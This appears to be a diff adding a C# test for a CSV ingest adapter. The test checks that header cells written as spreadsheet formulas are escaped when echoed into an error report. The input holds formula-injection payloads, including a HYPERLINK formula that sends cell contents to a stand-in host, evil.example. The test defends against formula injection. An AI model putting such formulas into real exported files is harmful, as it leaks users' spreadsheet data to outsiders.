@@ -43,6 +43,50 @@ public sealed class DropFolderAdapterTests(PostgresFixture postgres)
     }
 
     [Fact]
+    public async Task A_column_header_written_as_a_formula_ran_as_one_when_the_error_report_was_opened_in_a_spreadsheet()
+    {
+        await using var harness = await IngestHarness.CreateAsync(postgres);
+        using var folder = new TempFolder("adapters-drop");
+        // Headers the profile does not know are reported by name, as the file wrote them.
+        var header = CsvRecordReaderTests.PinyinCsv.Split("\r\n")[0] + ",\"=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"open\"\")\",@SUM(1+1),-2+3\r\n";
+        var csv = header + "2201210346,王强,男,2003-13-01,410102200304120222,4111010001,410102,21,120203K,会计学,2022/9/1,2026.06.30,2026,,,,,\r\n";
+        await File.WriteAllBytesAsync(folder.Combine("students.csv"), Encoding.GetEncoding("GBK").GetBytes(csv));
+        await File.WriteAllTextAsync(folder.Combine("students.csv.done"), "");
+
+        await Adapter(harness, folder.Path).RunOnceAsync(TestTimeout.Token());
+
+        var report = Directory.GetFiles(folder.Path, "students.errors.csv", SearchOption.AllDirectories).Single();
+        var fields = (await File.ReadAllLinesAsync(report, Encoding.UTF8)).Skip(1).SelectMany(CsvFields).ToList();
+        Assert.Contains("'=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", fields);
+        Assert.Contains("'@SUM(1+1)", fields);
+        Assert.Contains("'-2+3", fields);
+        Assert.DoesNotContain(fields, f => f.Length > 0 && f[0] is '=' or '+' or '-' or '@');
+    }
+
+    // The report's fields, unquoted (RFC 4180: a quoted field doubles its quotes).
+    private static IEnumerable<string> CsvFields(string line)
+    {
+        var field = new StringBuilder();
+        var quoted = false;
+        for (var i = 0; i < line.Length; i++)
+        {
+            var c = line[i];
+            if (quoted && c == '"' && i + 1 < line.Length && line[i + 1] == '"')
+                (field, i) = (field.Append('"'), i + 1);
+            else if (c == '"')
+                quoted = !quoted;
+            else if (c == ',' && !quoted)
+            {
+                yield return field.ToString();
+                field.Clear();
+            }
+            else
+                field.Append(c);
+        }
+        yield return field.ToString();
+    }
+
+    [Fact]
     public async Task An_unreadable_file_goes_to_failed_with_the_reason()
     {
         await using var harness = await IngestHarness.CreateAsync(postgres);
